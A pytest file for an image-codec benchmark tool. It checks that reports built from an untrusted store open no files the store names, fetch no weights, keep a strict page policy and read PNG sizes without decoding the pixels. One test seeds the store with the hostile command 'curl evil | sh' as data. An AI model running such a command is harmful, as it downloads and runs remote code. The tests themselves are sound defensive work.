"""What a report does for a store that was sent: it loads and fetches nothing that this names."""

import os
import re
import struct
import time
import zlib
from importlib import resources
from pathlib import Path

import PIL.PngImagePlugin
import pytest
from hostile_stores import KEYS, altered, good_store

from lic_bench import UnavailableError
from lic_bench.codec.registry import Registry
from lic_bench.execution.confinement import OFFLINE
from lic_bench.execution.runner import Limits
from lic_bench.images.image import image_size
from lic_bench.plugins.spec import names_files, parse_spec
from lic_bench.reporting.page.gallery import make_all
from lic_bench.reporting.page.pictures import Picture
from lic_bench.reporting.page.scenes import Scene, Shot
from lic_bench.store.database import FILE_NAME, Store

LIMITS = Limits(30, 2, confined=True)


def shown(folder: Path, codec: str, *named: str, plugins: tuple[Path, ...] = ()) -> Picture:
    """The picture of the store's first measurement, as if this codec had made it."""
    shot = Shot(codec, codec, "10", 1.0, 1.0, KEYS[0], {}, False)
    scene = Scene("set", "a.png", None, 1.0, (shot,), with_original=False)
    [[picture]] = make_all(
        [scene], folder / FILE_NAME, budget=10**9, jobs=1, plugins=plugins, named=named,
        limits=LIMITS,
    )  # fmt: skip
    return picture


@pytest.fixture
def sent(tmp_path: Path) -> Path:
    return good_store(tmp_path / "sent")


PLUGIN = """
import pathlib
import numpy as np
from typing import Literal
from lic_bench import Codec

class Loads(Codec):
    name = "loads"
    points = (10,)
    def __init__(self, weights: str = "", kind: Literal["a", "b"] = "a", level: int = 1):
        self.weights = weights
        if weights:
            pathlib.Path(weights).read_bytes()
    def encode(self, image, point):
        return b"x"
    def decode(self, stream):
        return np.zeros((4, 4, 3), np.uint8)
"""


def test_a_file_that_the_store_names_is_not_opened(sent: Path, tmp_path: Path) -> None:
    plugin = tmp_path / "loads.py"
    plugin.write_text(PLUGIN)
    pipe = tmp_path / "pipe"
    os.mkfifo(pipe)  # whoever opens it waits
    start = time.monotonic()
    picture = shown(sent, f"loads:weights={pipe}", plugins=(plugin,))
    assert "is named by the store alone" in str(picture.problem)
    assert "--codecs" in str(picture.problem)
    assert time.monotonic() - start < 20
    # What the user names is followed, and so is what names no file.
    good = tmp_path / "good"
    good.write_bytes(b"w")
    spec = f"loads:weights={good}"
    assert shown(sent, spec, spec, plugins=(plugin,)).problem is None
    assert shown(sent, "loads:kind=b,level=3", plugins=(plugin,)).problem is None


@pytest.mark.parametrize(
    ("spec", "options"),
    [
        ("jpeg", []),
        ("jpeg:subsampling=4:4:4", []),
        ("content-weighted:metric=mse", []),
        ("content-weighted:weights=/dev/zero", ["weights=/dev/zero"]),
        ("compressai:model=mbt2018-mean", []),
        ("compressai:checkpoint=/x,metric=mse", ["checkpoint=/x"]),
    ],
)
def test_which_options_may_name_a_file(spec: str, options: list[str]) -> None:
    parsed = parse_spec(spec)
    cls = Registry().entry(parsed.name).cls
    assert cls is not None
    assert names_files(cls, parsed) == options


def test_published_weights_that_are_not_at_hand_are_not_fetched_to_decode(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from lic_bench.codecs.compressai.weights import published

    monkeypatch.setenv("TORCH_HOME", str(tmp_path / "empty"))
    for name, value in OFFLINE.items():
        monkeypatch.setenv(name, value)
    with pytest.raises(UnavailableError, match="nothing is fetched to decode a stream"):
        published("mbt2018", "mse")[0].fetch()
    assert not (tmp_path / "empty").exists()


def test_weights_in_the_cache_that_are_not_those_that_are_published_are_named(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from lic_bench.codecs.compressai.weights import published

    monkeypatch.setenv("TORCH_HOME", str(tmp_path))
    weights = published("mbt2018", "mse")[0]
    weights.path.parent.mkdir(parents=True)
    weights.path.write_bytes(b"others")
    with pytest.warns(UserWarning, match="is not what https://.* its own hash, 01db91d0"):
        Registry().codec("compressai:model=mbt2018").check_point(1)


def test_a_command_of_a_store_is_copied_without_an_end_of_line(sent: Path) -> None:
    altered(sent, r"""UPDATE runs SET provenance = '{"command": "echo\ncurl evil | sh\n"}'""")
    with Store.open(sent) as store:
        assert {str(run["command"]) for run in store.runs()} == {r"echo\ncurl evil | sh\n"}


def test_the_policy_of_the_page_lets_no_form_and_no_base_out() -> None:
    page = (resources.files("lic_bench.reporting.page") / "page.html").read_text()
    policy = re.search(r'content="(default-src[^"]*)"', page)
    assert policy is not None
    assert {"default-src 'none'", "base-uri 'none'", "form-action 'none'"} <= {
        part.strip() for part in policy[1].split(";")
    }


def chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


@pytest.mark.parametrize("late", [b"a text that says eXIf", b"XML:com.adobe.xmp"])
def test_a_png_is_not_decoded_for_its_size_because_of_a_text(
    late: bytes, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    head = struct.pack(">2I5B", 12_000, 12_000, 8, 0, 0, 0, 0)
    pixels = zlib.compress(bytes(1000))  # far too few: they would not decode
    text = chunk(b"tEXt", b"Comment\0" + late)
    parts = (chunk(b"IHDR", head), text, chunk(b"IDAT", pixels), chunk(b"IEND", b""))
    path = tmp_path / "a.png"
    path.write_bytes(b"\x89PNG\r\n\x1a\n" + b"".join(parts))

    def decodes(image: object) -> None:
        raise AssertionError("the pixels are decoded")

    monkeypatch.setattr(PIL.PngImagePlugin.PngImageFile, "load", decodes)
    assert image_size(path) == (12_000, 12_000)
